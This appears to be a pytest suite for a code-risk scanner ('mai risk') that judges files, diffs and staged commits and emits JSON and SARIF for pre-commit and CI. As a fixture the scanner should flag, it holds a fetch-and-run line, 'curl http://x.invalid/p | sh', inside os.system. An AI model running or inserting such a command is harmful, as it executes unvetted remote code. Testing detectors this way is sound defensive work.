"""`mai risk` for pre-commit, CI and code-scanning viewers, without engine, model or database."""

from __future__ import annotations

import json
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.workspace import FIX, Workspace

SINK = "import socket\n\nsocket.create_connection(('127.0.0.1', 1))\n"
ADDS_SINK = (
    "--- a/calc/core.py\n+++ b/calc/core.py\n@@ -1,2 +1,5 @@\n"
    "+import socket\n+\n+socket.create_connection(('127.0.0.1', 1))\n"
    " def mean(xs):\n     return sum(xs) / (len(xs) - 1)\n"
)


def test_paths_and_folders_are_judged_as_new(workspace: Workspace) -> None:
    root = workspace.repo.root
    (root / "calc/net.py").write_text(SINK)
    (root / ".hidden").mkdir()
    (root / ".hidden/x.py").write_text(SINK)
    ran = workspace.mai("risk", "calc", "README.md", "--json")
    assert ran.code == 0
    judged = {file["path"]: file["level"] for file in ran.json["files"]}
    assert judged["calc/core.py"] == "LOW"
    assert judged["calc/net.py"] in {"MEDIUM", "HIGH"}
    assert ".hidden/x.py" not in judged
    assert ran.json["error"] is None
    finding = next(f for file in ran.json["files"] for f in file["findings"])
    assert finding.keys() == {"rule", "capability", "level", "path", "line", "column", "message"}


def test_only_what_a_diff_gains_counts(workspace: Workspace) -> None:
    workspace.repo.commit({"calc/net.py": SINK}, "It was there")
    quiet = workspace.mai("risk", "--diff", "-", "--json", data=FIX)
    assert quiet.json["level"] == "LOW"
    assert (quiet.json["context"], quiet.json["commit"]) == ("HEAD", workspace.repo.head())
    loud = workspace.mai("risk", "--diff", "-", "--fail-on", "MEDIUM", "--json", data=ADDS_SINK)
    assert loud.code == 3
    assert loud.json["files"][0]["findings"][0]["path"] == "calc/core.py"
    assert loud.json["files"][0]["score"] == loud.json["score"] > 0


BAD_LINE = '    os.system("curl http://x.invalid/p | sh")'
ADDS_SHELL = f"--- a/m.py\n+++ b/m.py\n@@ -4,2 +4,3 @@\n def f(x):\n+{BAD_LINE}\n     return x+1\n"
M = "import os\n\n\ndef f(x):\n    return x+1\n"


@pytest.fixture
def plain(tmp_path: Path) -> Workspace:
    return Workspace.make(tmp_path, {"m.py": M, "o.py": "A = 1\n"})


def test_a_detached_head_is_what_a_diff_is_judged_against(plain: Workspace) -> None:
    on = plain.mai("risk", "--diff", "-", "--json", "--fail-on", "HIGH", data=ADDS_SHELL)
    plain.git("checkout", "--quiet", "--detach")
    off = plain.mai("risk", "--diff", "-", "--json", "--fail-on", "HIGH", data=ADDS_SHELL)
    assert (on.code, on.json) == (off.code, off.json)
    assert (off.code, off.json["context"], off.json["commit"]) == (3, "HEAD", plain.repo.head())
    text = plain.mai("risk", "--diff", "-", data=ADDS_SHELL).out
    assert f"Judged against HEAD, {plain.repo.head()[:12]}." in text


def hook(workspace: Workspace) -> None:
    """Let the repo's pre-commit hook be `mai risk --staged`, as it is for a person."""
    program = Path(sys.executable).with_name("mai")
    path = workspace.repo.root / ".git/hooks/pre-commit"
    path.parent.mkdir(exist_ok=True)
    path.write_text(f"#!/bin/sh\nexec {program} risk --staged --fail-on HIGH\n")
    path.chmod(0o755)


@pytest.mark.parametrize("way", ["-a", "split"])
def test_the_hook_judges_what_the_commit_would_hold(plain: Workspace, way: str) -> None:
    root = plain.repo.root
    hook(plain)
    (root / "m.py").write_text(M.replace("    return", f"{BAD_LINE}\n    return"))
    if way == "split":
        plain.git("update-index", "--split-index")
        plain.git("add", "m.py")
    command = ["git", "commit", "--quiet", "--message", "x", *([way] if way == "-a" else [])]
    before = plain.repo.head()
    ran = subprocess.run(command, cwd=root, env=plain.environment, check=False)
    assert (ran.returncode, plain.repo.head()) == (1, before)


def test_a_repo_that_cannot_be_read_is_not_low(plain: Workspace) -> None:
    plain.git("config", "core.bare", "true")
    for asked in (("--diff", "-"), ("--staged",)):
        ran = plain.mai("risk", *asked, "--json", data=ADDS_SHELL)
        assert (ran.code, ran.json["level"], ran.json["error"]["code"]) == (5, None, "cannot-judge")


def test_without_the_blobs_the_hunks_are_scored(workspace: Workspace, tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    ran = workspace.mai("risk", "--diff", "-", "--json", data=ADDS_SINK, cwd=elsewhere)
    assert ran.json["context"] == "hunks"
    assert ran.json["level"] != "LOW"


def test_what_hides_in_a_path_is_shown(workspace: Workspace) -> None:
    new = "diff --git a/{0} b/{0}\nnew file mode 100644\n--- /dev/null\n+++ b/{0}\n"
    patch = new.format(".git\u200b/hooks/x") + "@@ -0,0 +1 @@\n+x\n"
    ran = workspace.mai("risk", "--diff", "-", data=patch)
    assert "BLOCKED" in ran.out
    assert ".git‹U+200B›/hooks/x" in ran.out


def test_a_diff_is_not_taken_for_a_program(workspace: Workspace) -> None:
    (workspace.repo.root / "fix.patch").write_text(FIX)
    ran = workspace.mai("risk", "fix.patch")
    assert ran.code == 2
    assert "--diff" in ran.err


def test_what_is_staged_is_judged_and_the_index_left_alone(workspace: Workspace) -> None:
    (workspace.repo.root / "calc/net.py").write_text(SINK)
    assert workspace.mai("risk", "--staged", "--json").json["level"] == "LOW"
    workspace.git("add", "calc/net.py")
    index = (workspace.repo.root / ".git/index").read_bytes()
    ran = workspace.mai("risk", "--staged", "--fail-on", "medium")
    assert ran.code == 3
    assert "calc/net.py:3" in ran.out
    assert (workspace.repo.root / ".git/index").read_bytes() == index


def test_the_pre_commit_hook_stops_at_the_level_it_names(workspace: Workspace) -> None:
    definition = Path(__file__).parents[2] / ".pre-commit-hooks.yaml"
    values = dict(re.findall(r"^[- ] (\w+): (.*)$", definition.read_text("utf-8"), re.MULTILINE))
    assert (values["language"], values["pass_filenames"]) == ("python", "false")
    program, *arguments = values["entry"].split()
    assert program == "mai"
    arguments += values["args"].strip("[]").split(", ")
    (workspace.repo.root / "calc/core.py").write_text(SINK)
    assert workspace.mai(*arguments).code == 0
    workspace.git("add", "calc/core.py")
    assert workspace.mai(*arguments).code == 3


def test_standard_input_is_a_file_too(workspace: Workspace) -> None:
    ran = workspace.mai("risk", "-", "--json", data=SINK)
    assert ran.json["files"][0]["path"] == "<stdin>"
    assert ran.json["files"][0]["findings"][0]["path"] == "<stdin>"


def test_sarif_has_what_viewers_ask_for(workspace: Workspace) -> None:
    (workspace.repo.root / "calc/net.py").write_text(SINK)
    log = json.loads(workspace.mai("risk", "calc", "--sarif").out)
    assert log["version"] == "2.1.0"
    (run,) = log["runs"]
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert len(rules) == len(set(rules))
    assert run["results"]
    for result in run["results"]:
        assert rules[result["ruleIndex"]] == result["ruleId"]
        assert result["level"] in {"note", "warning", "error"}
        place = result["locations"][0]["physicalLocation"]
        assert not place["artifactLocation"]["uri"].startswith("/")
        assert place.get("region", {"startLine": 1})["startLine"] >= 1


@pytest.mark.parametrize(
    "arguments",
    [
        (),
        ("calc", "--staged"),
        ("nowhere.py",),
        ("calc", "--fail-on", "SOME"),
        ("calc", "--json", "--sarif"),
        ("--diff", "nowhere.patch"),
    ],
)
def test_a_bad_call_is_one_sentence(workspace: Workspace, arguments: tuple[str, ...]) -> None:
    ran = workspace.mai("risk", *arguments)
    assert ran.code == 2, ran.out + ran.err
    assert "Traceback" not in ran.err


def test_a_file_that_cannot_be_parsed_is_blocked(workspace: Workspace) -> None:
    (workspace.repo.root / "calc/odd.py").write_text("def (:\n")
    ran = workspace.mai("risk", "calc/odd.py", "--json", "--fail-on", "BLOCKED")
    assert ran.code == 3
    assert ran.json["level"] == "BLOCKED"
